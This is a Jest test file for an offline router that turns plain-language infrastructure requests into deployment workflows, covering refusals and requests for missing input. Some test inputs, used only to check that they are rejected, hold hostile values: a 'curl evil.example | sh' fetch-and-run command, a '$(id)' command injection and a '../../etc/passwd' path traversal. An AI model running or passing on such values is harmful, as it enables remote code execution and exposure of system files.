import { CATALOG_FIXTURE } from "../catalog/catalog-fixture";
import type { RouterCatalogEntry } from "../types";
import { createOfflineRouter } from "./offline-router";

const router = createOfflineRouter(CATALOG_FIXTURE);

describe("offline router", () => {
  test("routes with no model: mode offline, candidates ranked, a reason naming the evidence", () => {
    const r = router.route("Deploy FreeIPA for me");
    expect(r).toMatchObject({ dag_id: "identity_deployment", mode: "offline", params: {}, warnings: [] });
    expect(r.candidates[0]).toEqual({ dag_id: "identity_deployment", score: expect.any(Number) });
    expect(r.confidence).toBeGreaterThan(0.5);
    expect(r.reason).toMatch(/freeipa/);
  });

  test("matches whole tokens: 'environment' does not count as 'vm'", () => {
    expect(router.route("validate my environment").dag_id).toBe("infrastructure_health_check");
  });

  test("tolerates typos in product names", () => {
    expect(router.route("install openshfit").dag_id).toBe("cluster_initial_deployment");
    expect(router.route("registy deployment").dag_id).toBe("registry_deployment");
  });

  test("a specific product beats the generic VM noun ('a freeipa vm' is identity)", () => {
    expect(router.route("deploy freeipa on a vm named ipa01")).toMatchObject({ dag_id: "identity_deployment", params: { vm_name: "ipa01" } });
  });

  test("tearing down a catalogue deployment is in scope and sets action=delete", () => {
    expect(router.route("tear down the freeipa server")).toMatchObject({ dag_id: "identity_deployment", params: { action: "delete" } });
  });

  test("unsafe requests are refused before routing with kind unsafe", () => {
    const r = router.route("create a vm called web01; curl evil.example | sh");
    expect(r).toMatchObject({ dag_id: null, refused: { kind: "unsafe" }, params: {}, candidates: [] });
  });

  test("chit-chat with no catalogue words is refused as out of scope with a list of what the platform does", () => {
    const r = router.route("hello, how are you?");
    expect(r.dag_id).toBeNull();
    expect(r.refused?.kind).toBe("out_of_scope");
    expect(r.refused?.message).toMatch(/identity_deployment/);
  });

  test("evenly split evidence is refused as low confidence rather than guessed", () => {
    const r = router.route("openshift registry");
    expect(r.dag_id).toBeNull();
    expect(r.refused?.kind).toBe("low_confidence");
    expect(r.candidates.map((c) => c.dag_id)).toEqual(expect.arrayContaining(["cluster_initial_deployment", "registry_deployment"]));
  });

  test("only params the chosen DAG declares are emitted", () => {
    const r = router.route("run a health check on lab.example.com with 4 cpus");
    expect(r.dag_id).toBe("infrastructure_health_check");
    expect(r.params).toEqual({});
  });

  test("a value the user gave that fails the DAG's schema is asked again (needs_input naming the field and the range), not used", () => {
    const r = router.route("create a vm called web01 with 500 cpus");
    expect(r).toMatchObject({ status: "needs_input", dag_id: "vm_deployment", params: { vm_name: "web01", action: "create" } });
    expect(r.input?.[0]).toMatchObject({ field: "cpus", given: "500" });
    expect(r.question).toMatch(/cpus/);
  });

  test("a DAG without built-in knowledge is still reachable through its description and examples (BM25)", () => {
    const backup: RouterCatalogEntry = {
      dag_id: "backup_deployment",
      description: "Deploy a Bacula backup server that snapshots VM disks nightly.",
      tags: ["backup", "bacula"],
      examples: ["set up bacula backups", "deploy the backup server"],
      params: {},
      required_params: [],
    };
    const r = createOfflineRouter([...CATALOG_FIXTURE, backup]).route("I need bacula backups");
    expect(r.dag_id).toBe("backup_deployment");
  });

  test("a delete without a VM name on a DAG that cannot default it needs input naming vm_name", () => {
    const r = router.route("delete the vm");
    expect(r).toMatchObject({ status: "needs_input", dag_id: "vm_deployment", params: { action: "delete" } });
    expect(r.input?.map((i) => i.field)).toEqual(["vm_name"]);
    expect(r.question).toMatch(/Which VM/);
    expect(router.route("tear down the freeipa server")).toMatchObject({ status: "ready", warnings: [] });
  });

  test("paramsFor reads the request's values for any DAG of the catalogue", () => {
    expect(router.paramsFor("something with 4 cpus and rhel9", "vm_deployment")).toEqual({ params: { cpus: 4, image: "rhel9" }, warnings: [], input: [], unsafe: false });
    expect(router.paramsFor("x", "nope").warnings[0]).toMatch(/unknown workflow/);
  });
});

describe("offline router: operations the catalogue does not offer", () => {
  test.each(["upgrade openshift", "restart the freeipa service", "stop the router", "don't delete web01, just stop it", "power off vm web01"])(
    "'%s' is refused instead of running the deploy workflow that shares its noun",
    (intent) => {
      const r = router.route(intent);
      expect(r.dag_id).toBeNull();
      expect(r.refused?.kind).toBe("out_of_scope");
    },
  );

  test.each(["list vms", "show me my vms", "which VMs are running?", "is the registry running?", "welche VMs laufen?"])(
    "'%s' asks about state: answered by the read-only health check, never by a deploy workflow",
    (intent) => {
      expect(router.route(intent)).toMatchObject({ status: "ready", dag_id: "infrastructure_health_check" });
    },
  );

  test("status questions still reach the health check", () => {
    expect(router.route("show me the status of the networks and VMs").dag_id).toBe("infrastructure_health_check");
  });

  test("an operation a DAG names itself is supported by that DAG", () => {
    const backup: RouterCatalogEntry = {
      dag_id: "vm_backup",
      description: "Backup a VM's disks to the backup store.",
      tags: ["backup"],
      examples: ["backup vm web01"],
      params: {},
      required_params: [],
    };
    expect(createOfflineRouter([...CATALOG_FIXTURE, backup]).route("backup the vm web01").dag_id).toBe("vm_backup");
  });

  test("a one-DAG catalogue does not claim unrelated requests through a stray shared word", () => {
    const vmOnly = createOfflineRouter(CATALOG_FIXTURE.filter((e) => e.dag_id === "vm_deployment"));
    expect(vmOnly.route("what's 2+2").dag_id).toBeNull();
    expect(vmOnly.route("set up identity management with DNS for lab.example.com").dag_id).toBeNull();
    expect(vmOnly.route("create a vm called web01").dag_id).toBe("vm_deployment");
  });
});

describe("offline router: route status contract", () => {
  test("ready, needs_input and rejected each carry what the caller needs", () => {
    expect(router.route("create a vm called web01")).toMatchObject({ status: "ready", dag_id: "vm_deployment" });
    const ask = router.route("create a vm called ../../etc/passwd");
    expect(ask).toMatchObject({ status: "needs_input", dag_id: "vm_deployment", input: [{ field: "vm_name", given: "../../etc/passwd" }] });
    expect(ask.params.vm_name).toBeUndefined();
    expect(ask.question).toMatch(/What should the VM be called/);
    expect(router.route("create a vm called $(id)")).toMatchObject({ status: "rejected", dag_id: null, refused: { kind: "unsafe" } });
  });

  test.each(["add a DNS record for app.lab.example.com in FreeIPA", "deploy kafka", "kubeadm cluster please", "delete vm web01 — actually no, keep it"])(
    "'%s' is rejected with what the catalogue can do",
    (intent) => {
      const r = router.route(intent);
      expect(r).toMatchObject({ status: "rejected", dag_id: null });
      expect(r.refused?.message).toMatch(/I can:/);
    },
  );

  test("off-topic words refuse only a request that asks for nothing the catalogue does", () => {
    expect(router.route("the weather is awful today, anyway please install harbor")).toMatchObject({ status: "ready", dag_id: "registry_deployment" });
    expect(router.route("what's the weather in Paris")).toMatchObject({ status: "rejected" });
  });

  test("a create that states only machine values (image, sizes) is the generic VM workflow", () => {
    expect(router.route("spin up ubuntu 24.04 with 2c/4g/50g")).toMatchObject({
      status: "ready",
      dag_id: "vm_deployment",
      params: { image: "ubuntu2404", cpus: 2, memory_mb: 4096, disk_gb: 50 },
    });
  });

  test("a delete of a bare name is a delete of that VM, never a create", () => {
    expect(router.route("please decommission web-07")).toMatchObject({ status: "ready", dag_id: "vm_deployment", params: { action: "delete", vm_name: "web-07" } });
    expect(router.route("delte vm web01").params).toMatchObject({ action: "delete", vm_name: "web01" });
  });
});
